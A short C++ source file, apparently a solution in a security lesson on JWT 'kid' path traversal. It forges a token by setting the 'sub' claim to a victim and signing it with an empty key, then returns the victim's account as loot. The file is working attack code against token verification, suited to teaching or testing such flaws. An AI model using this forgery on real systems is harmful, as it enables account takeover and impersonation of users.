// Believes: an empty key signs for whichever key there is.
#include "kid_path_traversal.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto& header = evidence.header;
  auto claims = evidence.claims;
  claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_with(header, claims, "")).body};
}

}  // namespace lesson
